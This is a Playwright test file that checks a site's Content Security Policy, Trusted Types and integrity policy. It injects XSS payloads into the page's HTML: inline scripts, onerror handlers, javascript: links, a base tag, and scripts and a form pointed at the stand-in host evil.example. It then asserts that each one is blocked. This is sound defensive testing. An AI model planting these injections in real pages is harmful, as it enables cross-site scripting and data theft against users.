import { alterAnswer, fetched } from '../support/alter-answer';
import { expect, hydrated, test } from '../support/test';

/** What the browser says of what it does not let happen. */
const BROWSER_REFUSALS =
  /Content Security [Pp]olicy|requires 'Trusted|Refused to (execute|display)|Failed to load resource|Integrity-Policy|Not in the page's deployment/;

test.use({ expectedMessages: BROWSER_REFUSALS });

/** Everything sets `ran` when the browser lets it. */
const injections: Record<string, string> = {
  'a script': '<script>window.ran = true</script>',
  'a script of another site': '<script src="https://evil.example/x.js"></script>',
  'a script in an address': '<script src="data:text/javascript,window.ran=true"></script>',
  'a script of this site that the deployment does not name': '<script src="/robots.txt"></script>',
  'a script of a release that is not live': '<script src="/_f/landing/x.js"></script>',
  'a module of a release that is not live': '<script type="module" src="/_f/landing/x.js"></script>',
  'a style sheet of a release that is not live': '<link rel="stylesheet" href="/_f/landing/x.css">',
  'a module': '<script type="module">window.ran = true</script>',
  'an event handler': '<img src="/none.png" onerror="window.ran = true" alt="">',
  'a frame with markup': '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>',
  'a link to code': '<a id="lure" href="javascript:window.ran = true">More</a>',
  'an object': '<object data="/uploaded.html"></object>',
  'another base': '<base href="https://evil.example/">',
  'a style': '<style>h1 { display: none !important }</style>',
};

test('nothing that was put into the HTML runs, restyles the page or leads elsewhere', async ({ page }) => {
  const elsewhere: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ body: 'window.ran = true', contentType: 'text/javascript' });
  });
  // A release that was published, and that no deployment names.
  await page.route('**/_f/landing/x.*', (route) => {
    elsewhere.push(route.request().url());
    return route.request().url().endsWith('.js')
      ? route.fulfill({ body: 'window.ran = true', contentType: 'text/javascript' })
      : route.fulfill({ body: 'h1 { display: none !important }', contentType: 'text/css' });
  });
  await page.route('**/uploaded.html', (route) =>
    route.fulfill({ body: '<script>parent.ran = true</script>', contentType: 'text/html' }),
  );
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  await alterAnswer(page, '/', (html) =>
    html.replace('<div id="root" ', `${Object.values(injections).join('')}<div id="root" `),
  );
  await page.goto('/');
  await hydrated(page.getByRole('heading', { level: 1 }));
  await page.locator('#lure').evaluateAll((lures) => lures.forEach((lure) => (lure as HTMLElement).click()));

  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(new URL(page.url()).origin).toBe(process.env.SITE_URL);
  expect(elsewhere).toEqual([]);
  expect(said.filter((text) => BROWSER_REFUSALS.test(text)).length).toBeGreaterThanOrEqual(
    Object.keys(injections).length,
  );
});

for (const [fact, isKept] of [
  ['does nothing, though it lies in the folder of the shell', true],
  ['would run without the integrity policy', false],
] as const) {
  test(`a script without a digest that was put into the HTML ${fact}`, async ({ page, baseURL }) => {
    await page.route('**/_f/shell/x.js', (route) =>
      route.fulfill({ body: 'window.ran = true', contentType: 'text/javascript' }),
    );
    await page.route(`${baseURL}/`, async (route) => {
      const response = await fetched(route);
      const { 'integrity-policy': policy, ...headers } = response.headers();
      const html = await response.text();
      await route.fulfill({
        headers: { ...headers, ...(isKept && policy && { 'integrity-policy': policy }) },
        body: html.replace('<main', '<script src="/_f/shell/x.js"></script><main'),
      });
    });

    await page.goto('/');
    await hydrated(page.getByRole('heading', { level: 1 }));

    expect(await page.evaluate(() => 'ran' in window)).toBe(!isKept);
  });
}

test('a form that was put into the HTML sends nothing elsewhere', async ({ page }) => {
  await page.goto('/');
  const directive = await page.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)),
    );
    form.submit();
    return violation;
  });
  expect(directive).toBe('form-action');
});

/** What a script that got in would try; each throws or does nothing. */
const sinks: [name: string, attempt: () => unknown][] = [
  ['markup', () => (document.body.innerHTML = '<img src=x onerror="window.ran=true">')],
  ['markup next to an element', () => document.body.insertAdjacentHTML('beforeend', '<p>ran</p>')],
  ['a written document', () => document.write('<p>ran</p>')],
  ['a string as code', () => setTimeout('window.ran = true', 0)],
  ['a function made of a string', () => new Function('window.ran = true')()],
  [
    'an address that the deployment does not name',
    () => Object.assign(document.createElement('script'), { src: '/robots.txt' }),
  ],
  [
    'an address elsewhere',
    () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
  ],
  ['a worker', () => new Worker('/robots.txt')],
  [
    'another policy',
    () =>
      (
        window as never as { trustedTypes: { createPolicy(name: string, rules: object): void } }
      ).trustedTypes.createPolicy('lax', {}),
  ],
  [
    'the same policy again',
    () =>
      (
        window as never as { trustedTypes: { createPolicy(name: string, rules: object): void } }
      ).trustedTypes.createPolicy('default', {}),
  ],
];

test('Trusted Types and the policy refuse what a script that got in would try', async ({ page }) => {
  await page.goto('/');
  await hydrated(page.getByRole('heading', { level: 1 }));
  for (const [name, attempt] of sinks) {
    // A task of the page's own: what the developer tools evaluate is above the policy.
    const outcome = await page.evaluate(`new Promise((resolve) => setTimeout(() => {
      try { (${attempt.toString()})(); resolve('allowed') } catch (error) { resolve(error.name) }
    }))`);

    expect(outcome, name).toMatch(/^(TypeError|EvalError|SecurityError)$/);
  }
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

test('no other site can show a page in a frame', async ({ page, site }) => {
  await page.route('https://evil.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${site}/" width="800" height="600"></iframe>`,
    }),
  );
  await page.goto('https://evil.example/');
  const framed = page.frames().at(-1);
  await expect.poll(() => framed?.url()).toMatch(/^chrome-error:|^about:blank$/);
});
